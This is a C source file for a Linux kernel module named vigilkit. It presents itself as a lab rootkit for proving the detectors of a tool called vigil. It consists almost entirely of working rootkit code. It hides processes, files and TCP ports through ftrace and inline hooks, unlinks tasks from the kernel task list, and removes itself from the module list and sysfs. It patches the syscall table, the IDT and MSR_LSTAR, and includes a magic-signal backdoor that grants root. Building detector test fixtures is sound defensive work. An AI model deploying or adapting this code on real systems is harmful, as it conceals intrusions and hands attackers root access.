// SPDX-License-Identifier: GPL-2.0
/*
 * vigilkit: a lab rootkit for proving vigil's detectors, built against the reference guest's kernel
 * headers (Debian 6.1). Every piece is off unless a module parameter turns it on:
 *
 *   hide_pid=N        hide process N from /proc listings       ftrace hook on __x64_sys_getdents64
 *   hide_file=NAME    hide directory entries called NAME        (same hook)
 *   unlink_pid=N      unlink process N from the task list (DKOM); /proc still lists it from the PID table
 *   hide_module=1     remove this module from the module list (lsmod, /proc/modules) and from sysfs
 *   hook_syscall=1    point sys_call_table[__NR_kill] at this module (the table is no longer used for
 *                     dispatch since x64_sys_call: the entry is tampered with, behaviour is unchanged)
 *   wp_syscall=1      the same entry written the classic way instead: CR0.WP cleared with a direct
 *                     `mov %cr0` (native_write_cr0 would pin WP on again), the entry written at its own
 *                     virtual address, WP restored. A virtual-address watchpoint on the entry sees this
 *                     write; it does not see the vmap alias the other pieces write through
 *   hook_idt=1        point IDT vector 0x80 at a stub here that counts (idt_hits) and jumps on to the
 *                     original handler
 *   hook_lstar=1      point MSR_LSTAR (the SYSCALL entry) of every CPU at a stub here that counts
 *                     (lstar_hits) and jumps on to entry_SYSCALL_64; refused under page-table isolation
 *   hide_port=P       inline hook: a jmp patched over the ftrace nop at the start of tcp4_seq_show, to a
 *                     function here that drops sockets on local port P from /proc/net/tcp
 *   magic_signal=S    kill(any, S) gives the caller root (commit_creds(prepare_kernel_cred(NULL)))
 *                     ftrace hook on __x64_sys_kill
 *
 * Kernel memory is written the way text_poke does it: through a temporary writable alias (vmap) of the
 * physical page, inside stop_machine. Symbols that are not exported come from kallsyms_lookup_name, itself
 * found with a kprobe. Unsigned: loading it taints the kernel. Everything but the hidden module can be
 * undone by rmmod; a hidden module cannot be removed.
 */
#define pr_fmt(fmt) KBUILD_MODNAME ": " fmt

#include <linux/cred.h>
#include <linux/dirent.h>
#include <linux/file.h>
#include <linux/fs.h>
#include <linux/ftrace.h>
#include <linux/kobject.h>
#include <linux/kprobes.h>
#include <linux/magic.h>
#include <linux/module.h>
#include <linux/mutex.h>
#include <linux/pid.h>
#include <linux/rculist.h>
#include <linux/sched.h>
#include <linux/sched/signal.h>
#include <linux/sched/task.h>
#include <linux/seq_file.h>
#include <linux/slab.h>
#include <linux/smp.h>
#include <linux/stop_machine.h>
#include <linux/uaccess.h>
#include <linux/vmalloc.h>
#include <linux/workqueue.h>
#include <net/sock.h>
#include <asm/desc.h>
#include <asm/msr.h>
#include <asm/nospec-branch.h>
#include <asm/unistd.h>

static int hide_pid;
module_param(hide_pid, int, 0444);
MODULE_PARM_DESC(hide_pid, "hide this process from /proc listings");
static char *hide_file;
module_param(hide_file, charp, 0444);
MODULE_PARM_DESC(hide_file, "hide directory entries with this name");
static int unlink_pid;
module_param(unlink_pid, int, 0444);
MODULE_PARM_DESC(unlink_pid, "unlink this process from the task list (DKOM)");
static bool hide_module;
module_param(hide_module, bool, 0444);
MODULE_PARM_DESC(hide_module, "hide this module from the module list and sysfs");
static bool hook_syscall;
module_param(hook_syscall, bool, 0444);
MODULE_PARM_DESC(hook_syscall, "point sys_call_table[__NR_kill] at this module");
static bool wp_syscall;
module_param(wp_syscall, bool, 0444);
MODULE_PARM_DESC(wp_syscall, "write sys_call_table[__NR_kill] in place with CR0.WP cleared");
static bool hook_idt;
module_param(hook_idt, bool, 0444);
MODULE_PARM_DESC(hook_idt, "point IDT vector 0x80 at this module");
static bool hook_lstar;
module_param(hook_lstar, bool, 0444);
MODULE_PARM_DESC(hook_lstar, "point MSR_LSTAR (the SYSCALL entry) of every CPU at this module");
static int hide_port;
module_param(hide_port, int, 0444);
MODULE_PARM_DESC(hide_port, "inline-hook tcp4_seq_show to hide this local TCP port");
static int magic_signal;
module_param(magic_signal, int, 0444);
MODULE_PARM_DESC(magic_signal, "kill() with this signal gives the caller root");
static unsigned long idt_hits;
module_param(idt_hits, ulong, 0444);
MODULE_PARM_DESC(idt_hits, "interrupts that went through the hooked IDT vector");

#define IDT_VECTOR 0x80

typedef unsigned long (*kallsyms_lookup_name_t)(const char *name);
static kallsyms_lookup_name_t lookup;

static int find_lookup(void)
{
	struct kprobe kp = { .symbol_name = "kallsyms_lookup_name" };
	int err = register_kprobe(&kp);

	if (err < 0)
		return err;
	lookup = (kallsyms_lookup_name_t)kp.addr;
	unregister_kprobe(&kp);
	return lookup ? 0 : -ENOENT;
}

static unsigned long symbol(const char *name)
{
	unsigned long a = lookup(name);

	if (!a)
		pr_err("symbol %s not found\n", name);
	return a;
}

/* ---- writing read-only kernel memory: a writable alias of the physical page, under stop_machine ---- */

struct poke {
	void *dst;
	const void *src;
	size_t len;
};

static int do_poke(void *data)
{
	struct poke *p = data;

	memcpy(p->dst, p->src, p->len);
	return 0;
}

/* addr must lie in the kernel image (text, rodata, data, bss): __pa_symbol holds only there. */
static int poke_kernel(void *addr, const void *src, size_t len)
{
	unsigned long a = (unsigned long)addr, first = a & PAGE_MASK;
	unsigned long last = (a + len - 1) & PAGE_MASK;
	struct page *pages[2];
	int n = last == first ? 1 : 2;
	struct poke p = { .src = src, .len = len };
	void *map;
	int i;

	if (len == 0 || len > PAGE_SIZE)
		return -EINVAL;
	for (i = 0; i < n; i++)
		pages[i] = pfn_to_page(__pa_symbol(first + i * PAGE_SIZE) >> PAGE_SHIFT);
	map = vmap(pages, n, VM_MAP, PAGE_KERNEL);
	if (!map)
		return -ENOMEM;
	p.dst = map + offset_in_page(a);
	stop_machine(do_poke, &p, NULL);
	vunmap(map);
	return 0;
}

/* ---- ftrace hooks: redirect a function's entry to ours; calls from this module reach the original ---- */

struct fhook {
	const char *name;
	void *func;
	void *orig; /* where to store the original's address */
	unsigned long addr;
	struct ftrace_ops ops;
	bool on;
};

static void notrace fhook_thunk(unsigned long ip, unsigned long parent_ip, struct ftrace_ops *ops,
				struct ftrace_regs *fregs)
{
	struct fhook *h = container_of(ops, struct fhook, ops);
	struct pt_regs *regs = ftrace_get_regs(fregs);

	if (regs && !within_module(parent_ip, THIS_MODULE))
		regs->ip = (unsigned long)h->func;
}

static int fhook_install(struct fhook *h)
{
	int err;

	h->addr = symbol(h->name);
	if (!h->addr)
		return -ENOENT;
	*(unsigned long *)h->orig = h->addr;
	h->ops.func = fhook_thunk;
	h->ops.flags = FTRACE_OPS_FL_SAVE_REGS | FTRACE_OPS_FL_RECURSION | FTRACE_OPS_FL_IPMODIFY;
	err = ftrace_set_filter_ip(&h->ops, h->addr, 0, 0);
	if (err) {
		pr_err("ftrace_set_filter_ip(%s): %d\n", h->name, err);
		return err;
	}
	err = register_ftrace_function(&h->ops);
	if (err) {
		pr_err("register_ftrace_function(%s): %d\n", h->name, err);
		ftrace_set_filter_ip(&h->ops, h->addr, 1, 0);
		return err;
	}
	h->on = true;
	pr_info("ftrace hook on %s (0x%lx) -> %ps\n", h->name, h->addr, h->func);
	return 0;
}

static void fhook_remove(struct fhook *h)
{
	if (!h->on)
		return;
	unregister_ftrace_function(&h->ops);
	ftrace_set_filter_ip(&h->ops, h->addr, 1, 0);
	h->on = false;
}

/* ---- hiding processes and files: filter what getdents64 returned ---- */

static asmlinkage long (*orig_getdents64)(const struct pt_regs *regs);
static char hide_pid_name[16];

static bool hidden_entry(const char *name, bool in_proc_root)
{
	if (in_proc_root && hide_pid_name[0] && strcmp(name, hide_pid_name) == 0)
		return true;
	return hide_file && hide_file[0] && strcmp(name, hide_file) == 0;
}

static bool is_proc_root(int fd)
{
	struct fd f = fdget(fd);
	bool r = false;

	if (f.file) {
		struct dentry *d = f.file->f_path.dentry;

		r = d->d_sb->s_magic == PROC_SUPER_MAGIC && d == d->d_sb->s_root;
		fdput(f);
	}
	return r;
}

/* Drop hidden entries from a getdents64 result in place; returns the new length. */
static long filter_dirents(char *buf, long len, bool in_proc_root)
{
	long off = 0, out = 0;

	while (off < len) {
		struct linux_dirent64 *d = (struct linux_dirent64 *)(buf + off);
		unsigned short reclen = d->d_reclen;

		if (reclen < offsetof(struct linux_dirent64, d_name) + 1 || off + reclen > len)
			break;
		if (!hidden_entry(d->d_name, in_proc_root)) {
			if (out != off)
				memmove(buf + out, buf + off, reclen);
			out += reclen;
		}
		off += reclen;
	}
	return out;
}

static asmlinkage long hook_getdents64(const struct pt_regs *regs)
{
	struct linux_dirent64 __user *udir = (void __user *)regs->si;
	bool in_proc_root = is_proc_root((int)regs->di);
	int rounds;
	long ret = 0;

	/* A batch of nothing but hidden entries must not read as the end of the directory: read on. */
	for (rounds = 0; rounds < 64; rounds++) {
		char *buf;
		long kept;

		ret = orig_getdents64(regs);
		if (ret <= 0)
			return ret;
		buf = kvmalloc(ret, GFP_KERNEL);
		if (!buf)
			return ret;
		if (copy_from_user(buf, udir, ret)) {
			kvfree(buf);
			return ret;
		}
		kept = filter_dirents(buf, ret, in_proc_root);
		if (kept != ret && kept > 0 && copy_to_user(udir, buf, kept))
			kept = -EFAULT;
		kvfree(buf);
		if (kept != 0)
			return kept;
	}
	return ret;
}

static struct fhook getdents_hook = {
	.name = "__x64_sys_getdents64",
	.func = hook_getdents64,
	.orig = &orig_getdents64,
};

/* ---- magic signal: root for whoever sends it ---- */

static asmlinkage long (*orig_kill)(const struct pt_regs *regs);

static asmlinkage long hook_kill(const struct pt_regs *regs)
{
	if (magic_signal && (int)regs->si == magic_signal) {
		struct cred *cred = prepare_kernel_cred(NULL);

		if (!cred)
			return -ENOMEM;
		pr_info("magic signal %d: pid %d (%s) is root now\n", magic_signal, current->pid, current->comm);
		commit_creds(cred);
		return 0;
	}
	return orig_kill(regs);
}

static struct fhook kill_hook = {
	.name = "__x64_sys_kill",
	.func = hook_kill,
	.orig = &orig_kill,
};

/* ---- DKOM: unlink a process from the task list ---- */

static struct task_struct *unlinked;
static rwlock_t *tasklist;

static int unlink_task(void)
{
	struct task_struct *t;

	tasklist = (rwlock_t *)symbol("tasklist_lock");
	if (!tasklist)
		return -ENOENT;
	rcu_read_lock();
	t = pid_task(find_vpid(unlink_pid), PIDTYPE_PID);
	if (t)
		t = t->group_leader; /* only thread-group leaders are on the task list */
	if (t)
		get_task_struct(t);
	rcu_read_unlock();
	if (!t) {
		pr_err("unlink_pid %d: no such process\n", unlink_pid);
		return -ESRCH;
	}
	/*
	 * list_del_rcu keeps the entry's forward link for readers walking the list right now; after a grace
	 * period the entry points at itself, so that its own exit (list_del_rcu in __unhash_process) is harmless.
	 */
	write_lock_irq(tasklist);
	list_del_rcu(&t->tasks);
	write_unlock_irq(tasklist);
	synchronize_rcu();
	write_lock_irq(tasklist);
	INIT_LIST_HEAD(&t->tasks);
	write_unlock_irq(tasklist);
	unlinked = t;
	pr_info("unlinked pid %d (%s) from the task list\n", t->pid, t->comm);
	return 0;
}

static void relink_task(void)
{
	if (!unlinked)
		return;
	write_lock_irq(tasklist);
	if (pid_alive(unlinked) && list_empty(&unlinked->tasks))
		list_add_tail_rcu(&unlinked->tasks, &init_task.tasks);
	write_unlock_irq(tasklist);
	put_task_struct(unlinked);
	unlinked = NULL;
}

/* ---- hiding the module itself ---- */

static void hide_sysfs(struct work_struct *w)
{
	/* After init: the loader announces the module through its kobject when init returns. */
	kobject_del(&THIS_MODULE->mkobj.kobj);
	pr_info("removed /sys/module/%s\n", KBUILD_MODNAME);
}

static DECLARE_DELAYED_WORK(hide_sysfs_work, hide_sysfs);

static int hide_self(void)
{
	struct mutex *module_mutex = (struct mutex *)symbol("module_mutex");

	if (!module_mutex)
		return -ENOENT;
	mutex_lock(module_mutex);
	list_del_rcu(&THIS_MODULE->list);
	mutex_unlock(module_mutex);
	pr_info("removed from the module list\n");
	schedule_delayed_work(&hide_sysfs_work, HZ / 2);
	return 0;
}

/* ---- sys_call_table entry ---- */

typedef asmlinkage long (*syscall_fn)(const struct pt_regs *regs);
static unsigned long *sys_call_table_p;
static unsigned long orig_table_kill;

static asmlinkage long table_kill(const struct pt_regs *regs)
{
	return ((syscall_fn)orig_table_kill)(regs);
}

static int patch_table(void)
{
	unsigned long mine = (unsigned long)table_kill;
	int err;

	sys_call_table_p = (unsigned long *)symbol("sys_call_table");
	if (!sys_call_table_p)
		return -ENOENT;
	orig_table_kill = sys_call_table_p[__NR_kill];
	err = poke_kernel(&sys_call_table_p[__NR_kill], &mine, sizeof mine);
	if (err)
		return err;
	pr_info("sys_call_table[%d] at 0x%lx: %ps -> %ps (0x%lx)\n", __NR_kill,
		(unsigned long)&sys_call_table_p[__NR_kill], (void *)orig_table_kill, table_kill, mine);
	return 0;
}

static void unpatch_table(void)
{
	if (orig_table_kill)
		poke_kernel(&sys_call_table_p[__NR_kill], &orig_table_kill, sizeof orig_table_kill);
	orig_table_kill = 0;
}

/* ---- sys_call_table entry written in place with CR0.WP cleared (the classic rootkit way) ---- */

static unsigned long *wp_table;
static unsigned long orig_wp_kill;

static asmlinkage long wp_kill(const struct pt_regs *regs)
{
	return ((syscall_fn)orig_wp_kill)(regs);
}

/* native_write_cr0 sets WP again (CR pinning, 5.3+): write the register directly. */
static inline void raw_write_cr0(unsigned long val)
{
	asm volatile("mov %0, %%cr0" : : "r"(val) : "memory");
}

/* One 8-byte store at the entry's own (read-only) address, WP off only around it, interrupts off. */
static void write_unprotected(unsigned long *slot, unsigned long value)
{
	unsigned long flags, cr0;

	local_irq_save(flags);
	cr0 = read_cr0();
	raw_write_cr0(cr0 & ~X86_CR0_WP);
	WRITE_ONCE(*slot, value);
	raw_write_cr0(cr0);
	local_irq_restore(flags);
}

static int patch_table_wp(void)
{
	unsigned long mine = (unsigned long)wp_kill;

	if (hook_syscall) {
		pr_err("wp_syscall and hook_syscall write the same entry: choose one\n");
		return -EINVAL;
	}
	/* With control-flow enforcement on, clearing CR0.WP is a #GP: refuse rather than crash the guest. */
	if (__read_cr4() & X86_CR4_CET) {
		pr_err("wp_syscall: CR4.CET is set, CR0.WP cannot be cleared\n");
		return -EOPNOTSUPP;
	}
	wp_table = (unsigned long *)symbol("sys_call_table");
	if (!wp_table)
		return -ENOENT;
	orig_wp_kill = wp_table[__NR_kill];
	write_unprotected(&wp_table[__NR_kill], mine);
	pr_info("sys_call_table[%d] at 0x%lx written with CR0.WP clear: %ps -> %ps (0x%lx)\n", __NR_kill,
		(unsigned long)&wp_table[__NR_kill], (void *)orig_wp_kill, wp_kill, mine);
	return 0;
}

static void unpatch_table_wp(void)
{
	if (orig_wp_kill)
		write_unprotected(&wp_table[__NR_kill], orig_wp_kill);
	orig_wp_kill = 0;
}

/* ---- IDT vector 0x80: a stub that counts and jumps on to the original handler ---- */

unsigned long vigilkit_idt_orig;
unsigned long *vigilkit_idt_hits = &idt_hits;
void vigilkit_idt_stub(void);
asm(".pushsection .text\n"
    ".globl vigilkit_idt_stub\n"
    ".type vigilkit_idt_stub, @function\n"
    "vigilkit_idt_stub:\n"
    "\tpushq %rax\n"
    "\tmovq vigilkit_idt_hits(%rip), %rax\n"
    "\tlock incq (%rax)\n"
    "\tpopq %rax\n"
    ANNOTATE_RETPOLINE_SAFE /* entry code runs before any retpoline could: a plain indirect jump */
    "\tjmp *vigilkit_idt_orig(%rip)\n"
    "\tint3\n"
    ".size vigilkit_idt_stub, . - vigilkit_idt_stub\n"
    ".popsection\n");

static gate_desc *idt;
static gate_desc orig_gate;

static unsigned long gate_target(const gate_desc *g)
{
	return g->offset_low | ((unsigned long)g->offset_middle << 16) | ((unsigned long)g->offset_high << 32);
}

static int patch_idt(void)
{
	unsigned long stub = (unsigned long)vigilkit_idt_stub;
	gate_desc g;
	int err;

	/*
	 * With page-table isolation the CPU enters the handler on the user page tables, where this module is
	 * not mapped: a stub here would fault. Refuse rather than crash the guest.
	 */
	if (boot_cpu_has(X86_FEATURE_PTI)) {
		pr_err("hook_idt: page-table isolation is on, a module stub cannot be an entry point\n");
		return -EOPNOTSUPP;
	}
	idt = (gate_desc *)symbol("idt_table");
	if (!idt)
		return -ENOENT;
	orig_gate = idt[IDT_VECTOR];
	vigilkit_idt_orig = gate_target(&orig_gate);
	g = orig_gate;
	g.offset_low = (u16)stub;
	g.offset_middle = (u16)(stub >> 16);
	g.offset_high = (u32)(stub >> 32);
	err = poke_kernel(&idt[IDT_VECTOR], &g, sizeof g);
	if (err)
		return err;
	pr_info("idt[0x%x] at 0x%lx: %ps -> %ps (0x%lx)\n", IDT_VECTOR, (unsigned long)&idt[IDT_VECTOR],
		(void *)vigilkit_idt_orig, vigilkit_idt_stub, stub);
	return 0;
}

static void unpatch_idt(void)
{
	if (vigilkit_idt_orig)
		poke_kernel(&idt[IDT_VECTOR], &orig_gate, sizeof orig_gate);
	vigilkit_idt_orig = 0;
}

/* ---- MSR_LSTAR: the SYSCALL entry moved to a stub that counts and jumps on to the original ---- */

unsigned long vigilkit_lstar_orig;
unsigned long vigilkit_lstar_hits;
module_param_named(lstar_hits, vigilkit_lstar_hits, ulong, 0444);
MODULE_PARM_DESC(lstar_hits, "system calls that entered through the hooked MSR_LSTAR");
void vigilkit_lstar_stub(void);
/*
 * At SYSCALL nothing is set up yet: user stack, user GS, interrupts off. The stub touches neither the stack
 * nor a register (RAX holds the call number, RCX and R11 the return RIP and RFLAGS); the flags the locked
 * increment changes are free, the CPU saved the caller's in R11.
 */
asm(".pushsection .text\n"
    ".globl vigilkit_lstar_stub\n"
    ".type vigilkit_lstar_stub, @function\n"
    "vigilkit_lstar_stub:\n"
    "\tendbr64\n"
    "\tlock incq vigilkit_lstar_hits(%rip)\n"
    ANNOTATE_RETPOLINE_SAFE /* entry code runs before any retpoline could: a plain indirect jump */
    "\tjmp *vigilkit_lstar_orig(%rip)\n"
    "\tint3\n"
    ".size vigilkit_lstar_stub, . - vigilkit_lstar_stub\n"
    ".popsection\n");

static void set_lstar(void *entry)
{
	wrmsrl(MSR_LSTAR, (unsigned long)entry);
}

static int patch_lstar(void)
{
	/*
	 * With page-table isolation SYSCALL enters on the user page tables, where only the entry text is mapped
	 * and this module is not: the stub would fault. Refuse rather than crash the guest.
	 */
	if (boot_cpu_has(X86_FEATURE_PTI)) {
		pr_err("hook_lstar: page-table isolation is on, a module stub cannot be the SYSCALL entry\n");
		return -EOPNOTSUPP;
	}
	rdmsrl(MSR_LSTAR, vigilkit_lstar_orig);
	on_each_cpu(set_lstar, vigilkit_lstar_stub, 1);
	pr_info("MSR_LSTAR of %u CPUs: %ps -> %ps (0x%lx)\n", num_online_cpus(), (void *)vigilkit_lstar_orig,
		vigilkit_lstar_stub, (unsigned long)vigilkit_lstar_stub);
	return 0;
}

static void unpatch_lstar(void)
{
	/*
	 * SYSCALL masks interrupts: a CPU takes the IPI only once it has left the stub, so when on_each_cpu
	 * returns no CPU is in it and the module text can go.
	 */
	if (vigilkit_lstar_orig)
		on_each_cpu(set_lstar, (void *)vigilkit_lstar_orig, 1);
	vigilkit_lstar_orig = 0;
}

/* ---- inline hook on tcp4_seq_show ---- */

#define JMP_LEN 5
static const u8 ftrace_nop[JMP_LEN] = { 0x0f, 0x1f, 0x44, 0x00, 0x00 };
static u8 *inline_site;
static int (*tcp4_seq_show_body)(struct seq_file *seq, void *v);

static int hooked_tcp4_seq_show(struct seq_file *seq, void *v)
{
	if (v != SEQ_START_TOKEN && ((struct sock_common *)v)->skc_num == hide_port)
		return 0;
	return tcp4_seq_show_body(seq, v);
}

static int patch_inline(void)
{
	static const u8 endbr64[4] = { 0xf3, 0x0f, 0x1e, 0xfa };
	u8 *fn = (u8 *)symbol("tcp4_seq_show");
	u8 jmp[JMP_LEN];
	long rel;
	int err;

	if (!fn)
		return -ENOENT;
	inline_site = memcmp(fn, endbr64, sizeof endbr64) == 0 ? fn + sizeof endbr64 : fn;
	/* The site is the function's ftrace call, a 5-byte nop while nobody traces it: safe to overwrite. */
	if (memcmp(inline_site, ftrace_nop, JMP_LEN) != 0) {
		pr_err("tcp4_seq_show does not start with the ftrace nop (%*ph): traced?\n", JMP_LEN, inline_site);
		inline_site = NULL;
		return -EBUSY;
	}
	rel = (long)hooked_tcp4_seq_show - (long)(inline_site + JMP_LEN);
	if (rel != (s32)rel) {
		pr_err("hook out of jmp rel32 range\n");
		inline_site = NULL;
		return -ERANGE;
	}
	tcp4_seq_show_body = (void *)(inline_site + JMP_LEN);
	jmp[0] = 0xe9;
	memcpy(jmp + 1, &(s32){ (s32)rel }, 4);
	err = poke_kernel(inline_site, jmp, JMP_LEN);
	if (err) {
		inline_site = NULL;
		return err;
	}
	pr_info("inline hook at tcp4_seq_show+%ld (0x%lx): jmp %ps, hiding local port %d\n",
		(long)(inline_site - fn), (unsigned long)inline_site, hooked_tcp4_seq_show, hide_port);
	return 0;
}

static void unpatch_inline(void)
{
	if (inline_site)
		poke_kernel(inline_site, ftrace_nop, JMP_LEN);
	inline_site = NULL;
}

/* ---- load and unload ---- */

static void undo(void)
{
	fhook_remove(&kill_hook);
	fhook_remove(&getdents_hook);
	unpatch_inline();
	unpatch_lstar();
	unpatch_idt();
	unpatch_table_wp();
	unpatch_table();
	relink_task();
}

static int __init vigilkit_init(void)
{
	int err = find_lookup();

	if (err) {
		pr_err("cannot find kallsyms_lookup_name: %d\n", err);
		return err;
	}
	if (hide_pid > 0)
		snprintf(hide_pid_name, sizeof hide_pid_name, "%d", hide_pid);
	if (hide_pid > 0 || (hide_file && hide_file[0])) {
		err = fhook_install(&getdents_hook);
		if (err)
			goto fail;
		if (hide_pid > 0)
			pr_info("hiding pid %d\n", hide_pid);
		if (hide_file && hide_file[0])
			pr_info("hiding files named %s\n", hide_file);
	}
	if (magic_signal) {
		if (magic_signal < 1 || magic_signal > 64) {
			err = -EINVAL;
			goto fail;
		}
		err = fhook_install(&kill_hook);
		if (err)
			goto fail;
		pr_info("magic signal %d armed\n", magic_signal);
	}
	if (unlink_pid > 0) {
		err = unlink_task();
		if (err)
			goto fail;
	}
	if (hook_syscall) {
		err = patch_table();
		if (err)
			goto fail;
	}
	if (wp_syscall) {
		err = patch_table_wp();
		if (err)
			goto fail;
	}
	if (hook_idt) {
		err = patch_idt();
		if (err)
			goto fail;
	}
	if (hook_lstar) {
		err = patch_lstar();
		if (err)
			goto fail;
	}
	if (hide_port > 0) {
		err = patch_inline();
		if (err)
			goto fail;
	}
	if (hide_module) {
		err = hide_self();
		if (err)
			goto fail;
	}
	pr_info("loaded\n");
	return 0;
fail:
	undo();
	pr_err("not loaded: %d\n", err);
	return err;
}

static void __exit vigilkit_exit(void)
{
	cancel_delayed_work_sync(&hide_sysfs_work);
	undo();
	pr_info("unloaded\n");
}

module_init(vigilkit_init);
module_exit(vigilkit_exit);
MODULE_LICENSE("GPL");
MODULE_AUTHOR("vigil lab");
MODULE_DESCRIPTION("lab rootkit for testing vigil's detectors");
